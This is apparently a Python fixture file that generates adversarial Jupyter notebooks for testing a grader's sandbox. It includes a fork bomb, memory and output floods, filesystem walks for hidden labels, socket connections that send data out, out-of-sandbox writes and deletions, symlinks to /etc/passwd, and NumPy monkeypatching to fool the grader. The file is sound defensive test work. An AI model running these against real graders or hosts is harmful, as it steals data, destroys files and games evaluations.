"""Tiny notebooks (NumPy only) that try to break the grader's sandbox; see tests/test_adversarial.py.

Regenerate the committed .ipynb files with ``python tests/adversarial/fixtures.py``. Every notebook
starts with the `parameters` cell the grader injects into. Notebooks that attack something read
``attack.json`` from their working directory (the tests hand it in as a student file): the host paths
and the port to go after, as an attacker who knows the grading machine's layout would.
Every loop is bounded so that nothing runs away even if the sandbox were broken.
"""

from __future__ import annotations

import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent

PARAMETERS = """\
GRADING = False
DATA_DIR = "data"
TEST_INPUTS = "data/test_inputs.npy"
PREDICTIONS_PATH = "predictions.npy"
MODEL_PATH = "model.keras"
"""

ATTACK = """\
import json, os
ATTACK = json.load(open("attack.json")) if os.path.exists("attack.json") else {}
"""

NOTEBOOKS: dict[str, list[str]] = {
    # a well-behaved submission: predictions for every test input, and a model file
    "good": [
        "import os\nimport numpy as np\nX = np.load(TEST_INPUTS)\nprint('inputs', X.shape, 'grading', GRADING)\n"
        "print('public', sorted(os.listdir(DATA_DIR)))",
        "# md: Predict",
        "pred = (X.reshape(len(X), -1).sum(axis=1) % 10).astype('int64')\n"
        "np.save(PREDICTIONS_PATH, pred)\nopen(MODEL_PATH, 'wb').write(b'not really a model')\n"
        "print('saved', len(pred))",
    ],
    # cell 3 (0-based) raises
    "exception": [
        "import numpy as np",
        "# md: This cell is prose.",
        "def check(x):\n    raise ValueError(f'bad shape {x}')\ncheck(42)",
        "np.save(PREDICTIONS_PATH, np.zeros(3))",
    ],
    "endless_cell": [
        "import numpy as np\nnp.save(PREDICTIONS_PATH, np.zeros(3))",
        "while True:\n    pass",
    ],
    # no single cell is too slow, but the whole notebook is
    "sleep_past_limit": [
        "import time",
        "for _ in range(300):\n    time.sleep(1)",
    ],
    "kill_kernel": [
        "import os, signal",
        "os.kill(os.getpid(), signal.SIGKILL)",
    ],
    "memory_bomb": [
        "import numpy as np\nchunks = []",
        "for _ in range(40):  # at most 2 GiB, 50 MiB at a time, every page touched\n"
        "    chunks.append(np.ones(50 * 2**20, dtype=np.uint8))\nprint('survived', len(chunks))",
    ],
    "fork_bomb": [
        "import os, time\nchildren, failures = [], 0",
        "for _ in range(3000):  # bounded: stops itself after a few thousand attempts\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        failures += 1\n"
        "        if failures > 20:\n            break\n        continue\n"
        "    if pid == 0:\n        time.sleep(20)\n        os._exit(0)\n    children.append(pid)\n"
        "print('forked', len(children), 'failures', failures)",
    ],
    "print_flood": [
        "line = 'x' * (2**20 - 1)",
        "for _ in range(200):  # at most 200 MB\n    print(line)",
    ],
    "big_file": [
        "chunk = b'\\0' * 2**20\nwritten = 0",
        "with open('huge.bin', 'wb') as f:\n    for _ in range(200):  # at most 200 MiB\n"
        "        f.write(chunk)\n        written += len(chunk)\nprint('wrote', written)",
    ],
    # read the hidden labels: by the paths an attacker knows, and by searching the filesystem
    "steal_labels": [
        ATTACK,
        "import numpy as np\nfound = []\n"
        "for p in ATTACK.get('paths', []):\n    try:\n        found.append(p + '=' + open(p, 'rb').read(200).hex())\n"
        "    except Exception as e:\n        print('blocked', p, type(e).__name__)",
        "import os, time\nmarker = bytes.fromhex(ATTACK.get('marker_hex', '00'))\nt0 = time.time()\nseen = 0\n"
        "for top, dirs, files in os.walk('/'):\n"
        "    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ('/proc', '/sys', '/dev')]\n"
        "    if time.time() - t0 > 6:\n        break\n"
        "    for name in files:\n        path = os.path.join(top, name)\n        seen += 1\n"
        "        try:\n"
        "            if os.path.islink(path) or os.path.getsize(path) > 2**20:\n                continue\n"
        "            if marker in open(path, 'rb').read():\n                found.append('walk:' + path)\n"
        "        except Exception:\n            pass\nprint('searched', seen, 'files')",
        "print('FOUND', found)\nnp.save(PREDICTIONS_PATH, np.array(found + ['none'], dtype=object), allow_pickle=True)",
    ],
    "network": [
        ATTACK,
        "import socket\nresults = []\nfor host in ATTACK.get('hosts', []):\n"
        "    s = socket.socket()\n    s.settimeout(3)\n    try:\n        s.connect((host, ATTACK['port']))\n"
        "        s.sendall(b'stolen')\n        results.append('CONNECTED ' + host)\n"
        "    except OSError as e:\n        results.append('blocked ' + host + ' ' + type(e).__name__)\n"
        "    finally:\n        s.close()\nprint(results)",
    ],
    "write_outside": [
        ATTACK,
        "import os, shutil\nfor p in ATTACK.get('write', []):\n    try:\n"
        "        with open(p, 'w') as f:\n            f.write('HACKED')\n        print('WROTE', p)\n"
        "    except OSError as e:\n        print('blocked write', p, type(e).__name__)\n"
        "for p in ATTACK.get('delete', []):\n    try:\n"
        "        shutil.rmtree(p) if os.path.isdir(p) else os.remove(p)\n        print('DELETED', p)\n"
        "    except OSError as e:\n        print('blocked delete', p, type(e).__name__)",
    ],
    # the predictions and the model file replaced by symlinks to secrets
    "symlink_outputs": [
        ATTACK,
        "import os\nfor p in (PREDICTIONS_PATH, MODEL_PATH):\n    if os.path.lexists(p):\n        os.remove(p)\n"
        "os.symlink(ATTACK.get('predictions_target', '/etc/passwd'), PREDICTIONS_PATH)\n"
        "os.symlink(ATTACK.get('model_target', '/etc/passwd'), MODEL_PATH)\nprint('planted')",
    ],
    "monkeypatch_numpy": [
        "import numpy as np\nX = np.load(TEST_INPUTS)\npred = np.zeros(len(X), dtype='int64')\n"
        "np.save(PREDICTIONS_PATH, pred)",
        "np.load = lambda *a, **k: 'pwned'\nnp.mean = lambda *a, **k: 1.0\nnp.array_equal = lambda *a, **k: True\n"
        "import sys\nsys.modules['numpy'].save = None\nprint('patched')",
    ],
}


def notebook(name: str) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    params = nbformat.v4.new_code_cell(PARAMETERS)
    params.metadata["tags"] = ["parameters"]
    cells = [params]
    for src in NOTEBOOKS[name]:
        if src.startswith("# md: "):
            cells.append(nbformat.v4.new_markdown_cell(src[len("# md: "):]))
        else:
            cells.append(nbformat.v4.new_code_cell(src))
    nb.cells = cells
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"{name.replace('_', '-')}-{i}"
    return nb


def path(name: str) -> Path:
    return HERE / f"{name}.ipynb"


def write_all() -> None:
    for name in NOTEBOOKS:
        nbformat.write(notebook(name), path(name))


if __name__ == "__main__":
    write_all()
    print(f"wrote {len(NOTEBOOKS)} notebooks to {HERE}", file=sys.stderr)
